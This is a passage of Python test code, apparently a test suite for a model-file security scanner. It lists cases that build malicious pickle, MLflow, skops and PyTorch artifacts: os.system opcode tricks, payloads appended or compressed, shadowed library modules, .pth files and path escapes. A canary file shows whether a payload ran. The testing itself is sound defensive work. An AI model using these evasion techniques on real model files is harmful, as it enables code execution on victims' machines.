    Case(
        "zipfile_write", "file writer", _G(lambda c: C(G("zipfile", "ZipFile"), (str(c), "w"))), PKL
    ),
    Case(
        "sklearn_dump_svmlight_file",
        "file writer",
        _G(
            lambda c: C(
                G("sklearn.datasets", "dump_svmlight_file"), (zeros(1, 1), zeros(1), str(c))
            )
        ),
        PKL,
        why="sklearn is an allowlisted prefix",
    ),
    # --- opcode and stream tricks -------------------------------------------------------
    Case(
        "inst_opcode", "pickle trick", _raw(lambda c: f"(V{cmd(c)}\nios\nsystem\n.".encode()), PKL
    ),
    Case(
        "obj_opcode",
        "pickle trick",
        _raw(lambda c: b"\x80\x02(" + g0("os", "system") + bu(cmd(c)) + b"o."),
        PKL,
    ),
    Case("memo_stack_global", "pickle trick", _raw(memo_stack_global), PKL),
    Case("computed_stack_global", "pickle trick", _raw(computed_stack_global), PKL),
    Case("computed_stack_global_python_model", "pickle trick", _computed_python_model, MLFLOW),
    Case("long_binput_long_binget", "pickle trick", _raw(long_memo_stack_global), PKL),
    Case("ext1_registered_in_process", "pickle trick", _raw(lambda c: _ext(b"\x82", 0xF1, c)), PKL),
    Case(
        "ext2_registered_in_process", "pickle trick", _raw(lambda c: _ext(b"\x83", 0x1F2, c)), PKL
    ),
    Case(
        "ext4_registered_in_process",
        "pickle trick",
        _raw(lambda c: _ext(b"\x84", 0x10000F3, c)),
        PKL,
    ),
    Case("protocol0_unicode_escapes", "pickle trick", _raw(protocol0_escaped), PKL),
    Case(
        "c_unpickler_only_prefix",
        "pickle trick",
        _raw(lambda c: b"I0x1\n0" + call0("os", "system", cmd(c))),
        PKL,
        why="pickletools cannot read I0x1; the C unpickler reads it",
    ),
    Case(
        "trailing_pickle_after_stop",
        "pickle trick",
        _raw(lambda c: assemble({"a": 1}) + os_system(c)),
        ("stream", "model.pkl"),
    ),
    Case(
        "estimator_then_appended_payload",
        "pickle trick",
        _raw(lambda c: benign_estimator_pickle() + os_system(c)),
        ("stream", "model.pkl"),
    ),
    Case("estimator_state_payload", "pickle trick", _raw(_estimator_with_payload), PKL),
    Case("object_array_element_payload", "pickle trick", _raw(_object_array_payload), PKL),
    Case(
        "build_setstate_of_allowed_class",
        "pickle trick",
        _G(
            lambda c: B(
                C(G("collections", "OrderedDict")), (None, {"x": C(G("os", "system"), (cmd(c),))})
            )
        ),
        PKL,
    ),
    # --- containers and file names ------------------------------------------------------
    Case(
        "gzip_wrapped",
        "container",
        _raw(lambda c: gzip.compress(os_system(c))),
        ("gzip", "model.pkl"),
    ),
    Case(
        "bz2_wrapped", "container", _raw(lambda c: bz2.compress(os_system(c))), ("bz2", "model.pkl")
    ),
    Case(
        "xz_wrapped", "container", _raw(lambda c: lzma.compress(os_system(c))), ("xz", "model.pkl")
    ),
    Case(
        "zlib_wrapped",
        "container",
        _raw(lambda c: zlib.compress(os_system(c))),
        ("zlib", "model.pkl"),
    ),
    Case("joblib_compressed", "container", _joblib_compressed, ("joblib", "model.joblib")),
    Case(
        "torch_zip_archive",
        "container",
        _raw(lambda c: torch_zip(call2("os", "system", cmd(c))), pickled="model.pt"),
        ("zipmember", "model.pt:archive/data.pkl"),
    ),
    Case(
        "model_file_named_bin",
        "container",
        _raw(lambda c: call0("os", "system", cmd(c)), pickled="weights.bin"),
        ("pickle", "weights.bin"),
    ),
    Case(
        "model_file_without_suffix",
        "container",
        _raw(os_system, pickled="model"),
        ("pickle", "model"),
    ),
    Case("legacy_pyfunc_data_file", "container", _legacy_data, MLFLOW),
    # --- flavor routes ------------------------------------------------------------------
    Case(
        "lightgbm_model_class_sklearn",
        "flavor route",
        _lightgbm("sklearn.linear_model.LogisticRegression"),
        PKL,
    ),
    Case("lightgbm_model_class_os_system", "flavor route", _lightgbm("os.system"), PKL),
    Case("xgboost_model_class_in_code", "flavor route", _xgboost_code_class, MLFLOW),
    Case("sklearn_flavor_only", "flavor route", _sklearn_only, ("mlflow_sklearn", "")),
    Case("custom_flavor_only", "flavor route", _custom_flavor_only, PKL),
    # --- code shipped in the model ------------------------------------------------------
    Case("code_module_imported_by_pickle", "shipped code", _code_module, MLFLOW),
    Case(
        "code_sklearn_shadow",
        "shipped code",
        _shadow("sklearn"),
        ("import", "code:sklearn"),
        fresh=True,
    ),
    Case(
        "code_numpy_shadow", "shipped code", _shadow("numpy"), ("import", "code:numpy"), fresh=True
    ),
    Case(
        "code_cloudpickle_shadow",
        "shipped code",
        _shadow("cloudpickle"),
        ("import", "code:cloudpickle"),
        fresh=True,
    ),
    Case(
        "code_escape_parent_dir",
        "path escape",
        _shadow("sklearn", "../outside_code"),
        ("import", "../outside_code:sklearn"),
        fresh=True,
    ),
    Case(
        "code_symlink_outside",
        "path escape",
        _symlinked_code,
        ("import", "code:sklearn"),
        fresh=True,
    ),
    Case("loader_module_in_code", "shipped code", _loader_module("code"), MLFLOW),
    Case("loader_module_in_model_root", "shipped code", _loader_module("."), MLFLOW),
    Case("model_from_code", "shipped code", _model_from_code, MLFLOW),
    Case("python_model_load_context", "shipped code", _python_model_case("load_context"), MLFLOW),
    Case("python_model_predict", "shipped code", _python_model_case("predict"), MLFLOW),
    Case("python_model_artifact_pickle", "shipped code", _python_model_artifact, MLFLOW),
    Case("pth_file_in_code", "shipped code", _pth_in_code, ("sitedir", "code"), fresh=True),
    # --- skops self-trust ---------------------------------------------------------------
    Case(
        "skops_trusted_os_system",
        "skops",
        _skops("posix", "system", lambda c: (cmd(c),)),
        ("skops", "model.skops"),
    ),
    Case(
        "skops_trusted_builtins_exec",
        "skops",
        _skops("builtins", "exec", lambda c: (py(c),)),
        ("skops", "model.skops"),
    ),
    Case(
        "skops_trusted_builtins_open",
        "skops",
        _skops("builtins", "open", lambda c: (str(c), "w")),
        ("skops", "model.skops"),
    ),
    # --- path escapes -------------------------------------------------------------------
    Case(
        "pickled_model_parent_escape",
        "path escape",
        _escape_pickled_model,
        ("pickle", "../outside/model.pkl"),
    ),
    Case("model_path_absolute", "path escape", _escape_absolute_model_path, MLFLOW),
    Case("model_file_symlink_outside", "path escape", _escape_symlink, PKL),
    Case("pyfunc_data_escape", "path escape", _escape_data, MLFLOW),
    Case(
        "python_model_escape",
        "path escape",
        _escape_python_model,
        ("pickle", "../outside/python_model.pkl"),
    ),
    Case("artifact_escape", "path escape", _escape_artifact, MLFLOW),
]

BY_NAME: Final = {case.name: case for case in CASES}
assert len(BY_NAME) == len(CASES), "case names must be unique"


def families() -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for case in CASES:
        out.setdefault(case.family, []).append(case.name)
    return out


def fired(canary: Path) -> bool:
    """Whether the canary exists (a dangling symlink counts), or a file named after it
    (``numpy.save`` adds ``.npy``, ``mkstemp`` a random suffix)."""
    if os.path.lexists(canary):
        return True
    return any(canary.parent.glob(canary.name + "*"))
